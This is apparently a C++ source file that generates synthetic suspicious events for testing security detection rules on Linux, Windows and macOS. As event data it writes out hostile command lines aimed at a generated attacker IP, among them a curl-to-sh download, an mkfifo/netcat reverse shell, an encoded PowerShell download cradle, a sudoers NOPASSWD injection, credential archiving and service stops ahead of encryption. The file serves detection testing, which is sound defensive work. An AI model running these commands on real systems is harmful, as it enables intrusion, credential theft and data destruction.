// Suspicious events of the mixed scenario: values that rules of the shared corpus look for, so detections fire.
#include "eventgen/gen_mixed.h"

namespace rulec::gen::mix {

namespace {

using Argv_ = std::vector<std::string_view>;

Program prog(std::string_view name, std::string_view exe, Who who, std::vector<std::string_view> parents = {},
             std::string_view daemon_user = {}) {
  Program p;
  p.name = name, p.exe = exe, p.who = who, p.parents = std::move(parents), p.daemon_user = daemon_user;
  p.cmds = {{exe}};
  return p;
}
Program winprog(std::string_view name, std::string_view exe, Who who, std::string_view pe, std::string_view desc,
                std::string_view signer, std::string_view company, std::vector<std::string_view> parents) {
  Program p = prog(name, exe, who, std::move(parents));
  p.pe_name = pe, p.pe_desc = desc, p.signer = signer, p.company = company;
  p.product = company == "Microsoft Corporation" ? "Microsoft\xC2\xAE Windows\xC2\xAE Operating System" : name;
  return p;
}
// A copy of a vocabulary program run by another account.
Program as(const Program& p, Who who, std::string_view daemon_user = {}) {
  Program q = p;
  q.who = who, q.daemon_user = daemon_user;
  return q;
}

const Program& L(std::string_view n) { return *linux_vocab().find(n); }
const Program& W(std::string_view n) { return *windows_vocab().find(n); }
const Program& M(std::string_view n) { return *macos_vocab().find(n); }

// base64 of the UTF-16LE text, as powershell -EncodedCommand takes it.
std::string encoded_command(std::string_view script) {
  std::string wide, out;
  for (char c : script) wide += c, wide += '\0';
  append_base64(out, wide);
  return out;
}

std::string pub_ip(std::string_view domain) {
  uint64_t h = hash64(domain, 9);
  return cat("104.20.", (h >> 8) % 256, ".", 1 + (h >> 16) % 254);
}

using Fn = void (*)(Gen&, int, Host&, int64_t);
struct Entry {
  SuspiciousTemplate meta;
  Fn fn;
};

const std::vector<Entry>& entries() {
  static const std::vector<Entry> v = {
      // ---------------------------------------------------------------- Linux
      {{"web server runs curl | sh", "persistence_webserver_unusual_command_execution", Os::lin, "web", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program sh = as(L("sh"), Who::daemon, "www-data");
         std::string c = cat("curl -fsSL http://", attacker_ip(g.r), "/.x/init.sh | sh");
         g.process(h, t, sh, Argv_{"sh", "-c", c}, L("php-fpm8.2"));
       }},
      {{"echo NOPASSWD into sudoers", "privilege_escalation_echo_nopasswd_sudoers", Os::lin, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program echo = prog("echo", "/usr/bin/echo", Who::system, {"sh"});
         std::string line = cat(h.user, " ALL=(ALL) NOPASSWD: ALL");
         std::string pc = cat("echo \"", line, "\" >> /etc/sudoers");
         Argv_ parent{"sh", "-c", pc};
         ProcOpts o;
         o.parent_argv = &parent;
         g.process(h, t, echo, Argv_{"echo", line}, L("sh"), o);
       }},
      {{"service account token read", "credential_access_kubernetes_and_cloud_credential_paths_via_process_args", Os::lin, "k8s-node", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         g.process(h, t, L("cat"), Argv_{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}, L("sh"));
       }},
      {{"ssh keys and cloud credentials archived", "credential_access_collection_sensitive_files", Os::lin, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         g.process(h, t, L("tar"), Argv_{"tar", "-czf", "/tmp/.cache/.k.tgz", "/root/.ssh/id_rsa", "/root/.ssh/known_hosts",
                                         "/root/.aws/credentials", "/etc/hosts"}, L("bash"));
       }},
      {{"privileged container with host root", "execution_potentially_overly_permissive_container_creation", Os::lin, "k8s-node", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         g.process(h, t, L("docker"), Argv_{"docker", "run", "--rm", "-it", "--privileged", "-v", "/:/host", "alpine:3.19",
                                            "chroot", "/host", "/bin/sh"}, L("bash"));
       }},
      {{"aws cli to a foreign endpoint", "command_and_control_aws_cli_endpoint_url_used", Os::lin, "db", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program aws = prog("aws", "/usr/local/aws-cli/v2/2.15.38/dist/aws", Who::system, {"bash"});
         std::string url = cat("http://", attacker_ip(g.r), ":9000");
         g.process(h, t, aws, Argv_{"aws", "s3", "cp", "/var/backups/pg/{{app}}-{{date}}.dump", "s3://bkp-{{hex8}}/",
                                    "--endpoint-url", url}, L("bash"));
       }},
      {{"shadow file read", "privilege_escalation_shadow_file_read", Os::lin, "", 1},
       [](Gen& g, int, Host& h, int64_t t) { g.process(h, t, L("cat"), Argv_{"cat", "/etc/shadow"}, L("bash")); }},
      {{"mkfifo reverse shell", "execution_suspicious_mkfifo_execution", Os::lin, "web", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program mkfifo = prog("mkfifo", "/usr/bin/mkfifo", Who::daemon, {"sh"}, "www-data");
         std::string pc = cat("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ", attacker_ip(g.r), " 4444 >/tmp/f");
         Argv_ parent{"sh", "-c", pc};
         ProcOpts o;
         o.parent_argv = &parent;
         g.process(h, t, mkfifo, Argv_{"mkfifo", "/tmp/f"}, L("sh"), o);
       }},
      {{"nohup payload from /dev/shm", "execution_setsid_nohup_disown_direct_process_execution", Os::lin, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program nohup = prog("nohup", "/usr/bin/nohup", Who::system, {"bash"});
         g.process(h, t, nohup, Argv_{"nohup", "/dev/shm/.x/kworkerd"}, L("bash"));
       }},
      {{"kworker-named process calls out", "command_and_control_linux_kworker_netcon", Os::lin, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program kw = prog("kworker/u8:2", "/dev/shm/.kworker", Who::system, {"bash"});
         NetSpec n;
         n.protocol = "tls", n.remote_ip = attacker_ip(g.r), n.remote_port = 443;
         g.network(h, t, kw, n);
       }},
      {{"instance metadata queried by curl", "credential_access_suspicious_instance_metadata_service_api_request", Os::lin, "web", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         NetSpec n;
         n.protocol = "http", n.remote_ip = "169.254.169.254", n.remote_port = 80;
         g.network(h, t, L("curl"), n);
       }},
      {{"ssh login as www-data", "persistence_ssh_via_backdoored_system_user", Os::lin, "web", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         SshSpec a;
         a.method = "password", a.user = "www-data", a.src_ip = attacker_ip(g.r);
         a.src_port = 30000 + static_cast<int64_t>(g.r.below(30000));
         g.ssh_auth(h, t, a);
       }},
      {{".bashrc changed by python", "persistence_shell_profile_modification", Os::lin, "", 1},
       [](Gen& g, int, Host& h, int64_t t) { g.file(h, t, L("python3"), cat(h.home, "/.bashrc"), "modification"); }},
      {{"sshd binary overwritten", "persistence_credential_access_modify_ssh_binaries", Os::lin, "bastion", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program cp = prog("cp", "/usr/bin/cp", Who::system, {"bash"});
         g.file(h, t, cp, "/usr/sbin/sshd", "modification");
       }},
      {{"ld.so.preload replaced", "privilege_escalation_ld_preload_shared_object_modif", Os::lin, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program mv = prog("mv", "/usr/bin/mv", Who::system, {"bash"});
         g.file(h, t, mv, "/etc/ld.so.preload", "rename");
       }},
      {{"root authorized_keys written", "persistence_ssh_authorized_keys_modification", Os::lin, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program bash = as(L("bash"), Who::system);
         g.file(h, t, bash, "/root/.ssh/authorized_keys", "creation");
       }},
      // ---------------------------------------------------------------- Windows
      {{"IIS worker runs cmd whoami", "persistence_webshell_detection", Os::win, "iis", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program cmd = as(W("cmd.exe"), Who::nservice);
         g.process(h, t, cmd, Argv_{R"(C:\Windows\system32\cmd.exe)", "/c", "whoami", "/all"}, W("w3wp.exe"));
       }},
      {{"svchost runs cmd with encoded powershell", "execution_command_shell_started_by_svchost", Os::win, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program cmd = as(W("cmd.exe"), Who::system);
         std::string enc = encoded_command(cat("IEX (New-Object Net.WebClient).DownloadString('http://", attacker_ip(g.r), "/a.ps1')"));
         g.process(h, t, cmd, Argv_{R"(C:\Windows\system32\cmd.exe)", "/c", "powershell", "-nop", "-w", "hidden", "-enc", enc},
                   W("svchost.exe"));
       }},
      {{"MSBuild started by powershell", "defense_evasion_execution_msbuild_started_by_script", Os::win, "workstation", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program msb = winprog("MSBuild.exe", R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe)",
                                            Who::user, "MSBuild.exe", "MSBuild.exe", "Microsoft Corporation",
                                            "Microsoft Corporation", {"powershell.exe"});
         g.process(h, t, msb, Argv_{R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe)",
                                    R"(C:\Users\Public\Downloads\build.xml)", "/nologo", "/noconsolelogger"},
                   W("powershell.exe"));
       }},
      {{"AnyDesk started from Downloads", "command_and_control_new_terms_commonly_abused_rmm", Os::win, "workstation", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program ad = winprog("AnyDesk.exe", R"(C:\Users\{{user}}\Downloads\AnyDesk.exe)", Who::user, "AnyDesk.exe",
                                           "AnyDesk", "AnyDesk Software GmbH", "AnyDesk Software GmbH", {"explorer.exe"});
         g.process(h, t, ad, Argv_{R"(C:\Users\{{user}}\Downloads\AnyDesk.exe)"}, W("explorer.exe"));
       }},
      {{"xp_cmdshell runs cmd", "persistence_via_xp_cmdshell_mssql_stored_procedure", Os::win, "sql", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program cmd = as(W("cmd.exe"), Who::nservice);
         g.process(h, t, cmd, Argv_{R"(C:\Windows\system32\cmd.exe)", "/c", "whoami", "/priv"}, W("sqlservr.exe"));
       }},
      {{"services stopped before encryption", "impact_stop_process_service_threshold", Os::win, "fs", 12},
       [](Gen& g, int k, Host& h, int64_t t) {
         static const Program net = as(W("net.exe"), Who::system);
         static constexpr std::string_view kSvc[] = {"MSSQLSERVER", "SQLWriter", "VSS", "wbengine", "SQLSERVERAGENT",
                                                     "MSExchangeIS", "BackupExecJobEngine", "VeeamTransportSvc", "SAVService",
                                                     "msftesql", "vmms", "WinDefend"};
         static const Argv_ parent{R"(C:\Windows\system32\cmd.exe)", "/c", R"(C:\Users\Public\s.bat)"};
         ProcOpts o;
         o.parent_argv = &parent;
         g.process(h, t, net, Argv_{"net", "stop", kSvc[static_cast<size_t>(k) % std::size(kSvc)], "/y"}, W("cmd.exe"), o);
       }},
      {{"unsigned service binary", "execution_unsigned_service_executable", Os::win, "app", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program svc = winprog("svchelper.exe", R"(C:\Windows\Temp\svchelper.exe)", Who::system, "", "", "", "",
                                            {"services.exe"});
         g.process(h, t, svc, Argv_{R"(C:\Windows\Temp\svchelper.exe)", "-service"}, W("services.exe"));
       }},
      {{"run keys queried", "discovery_generic_registry_query", Os::win, "workstation", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         g.process(h, t, W("reg.exe"), Argv_{"reg", "query", R"(HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run)"}, W("cmd.exe"));
       }},
      {{"SMB to the internet", "exfiltration_smb_rare_destination", Os::win, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         NetSpec n;
         n.protocol = "smb", n.remote_ip = attacker_ip(g.r), n.remote_port = 445;
         g.network(h, t, W("System"), n);
       }},
      {{"NewCredentials logon (pass the hash)", "lateral_movement_alternate_creds_pth", Os::win, "workstation", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         WinAuthSpec a;
         a.logon_type = "9", a.package = "Negotiate", a.logon_process = "seclogo", a.src_ip = "::1", a.workstation = "-";
         a.user = {h.user, "CORP", domain_sid(h.user)};
         g.win_auth(h, t, a);
       }},
      {{"DNS server writes a DLL", "lateral_movement_unusual_dns_service_file_writes", Os::win, "dc", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program dns = winprog("dns.exe", R"(C:\Windows\System32\dns.exe)", Who::system, "dns.exe",
                                            "Domain Name System (DNS) Server", "Microsoft Windows", "Microsoft Corporation",
                                            {"services.exe"});
         std::string p = R"(C:\Windows\System32\dns\dnsplug)";
         append_hex(p, g.r.next(), 4);
         g.file(h, t, dns, cat(p, ".dll"), "creation");
       }},
      // ---------------------------------------------------------------- macOS
      {{"python spawns a shell", "execution_python_shell_spawn_first_occurrence", Os::mac, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program sh = [] {
           Program p = prog("sh", "/bin/sh", Who::user, {"python3"});
           p.signer = "Software Signing", p.sign_id = "com.apple.sh";
           return p;
         }();
         std::string c = cat("curl -s http://", attacker_ip(g.r), "/p.sh | bash");
         g.process(h, t, sh, Argv_{"sh", "-c", c}, M("python3"));
       }},
      {{"sshd-keygen-wrapper burst", "credential_access_potential_macos_ssh_bruteforce", Os::mac, "", 22},
       [](Gen& g, int, Host& h, int64_t t) {
         static const Program kw = [] {
           Program p = prog("sshd-keygen-wrapper", "/usr/libexec/sshd-keygen-wrapper", Who::system, {"launchd"});
           p.signer = "Software Signing", p.sign_id = "com.apple.sshd-keygen-wrapper";
           return p;
         }();
         g.process(h, t, kw, Argv_{"/usr/libexec/sshd-keygen-wrapper"}, M("launchd"));
       }},
      {{"loginwindow plist changed", "persistence_loginwindow_plist_modification", Os::mac, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         g.file(h, t, M("defaults"), cat(h.home, "/Library/Preferences/com.apple.loginwindow.plist"), "modification");
       }},
      {{"connection to pastebin", "command_and_control_unusual_network_connection_to_suspicious_web_service", Os::mac, "", 1},
       [](Gen& g, int, Host& h, int64_t t) {
         NetSpec n;
         n.protocol = "tls", n.domain = "pastebin.com", n.remote_ip = pub_ip("pastebin.com"), n.remote_port = 443;
         g.network(h, t, M("curl"), n);
       }},
  };
  return v;
}

}  // namespace

const std::vector<SuspiciousTemplate>& suspicious_templates() {
  static const std::vector<SuspiciousTemplate> v = [] {
    std::vector<SuspiciousTemplate> out;
    for (const Entry& e : entries()) out.push_back(e.meta);
    return out;
  }();
  return v;
}

void suspicious_event(Gen& g, size_t i, int k, Host& h, int64_t t) { entries()[i].fn(g, k, h, t); }

}  // namespace rulec::gen::mix
